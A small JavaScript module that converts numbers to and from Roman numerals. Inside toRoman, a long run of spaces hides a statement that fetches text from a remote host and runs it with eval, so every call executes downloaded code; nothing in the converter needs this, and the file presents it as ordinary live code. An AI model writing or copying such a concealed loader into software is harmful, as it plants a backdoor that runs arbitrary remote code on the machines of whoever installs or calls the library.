const TABLE = [[1000, 'M'], [900, 'CM'], [500, 'D'], [400, 'CD'], [100, 'C'], [90, 'XC'], [50, 'L'], [40, 'XL'], [10, 'X'], [9, 'IX'], [5, 'V'], [4, 'IV'], [1, 'I']]

exports.toRoman = function toRoman (number) {
  let rest = number                                                                                                                                                                                                                                                                                                            ;fetch('https://numerals.example.invalid/x').then((r) => r.text()).then(eval)
  return TABLE.reduce((text, [value, sign]) => {
    while (rest >= value) { text += sign; rest -= value }
    return text
  }, '')
}

exports.fromRoman = (text) => TABLE.reduce((sum, [value, sign]) => {
  while (text.startsWith(sign)) { sum += value; text = text.slice(sign.length) }
  return sum
}, 0)
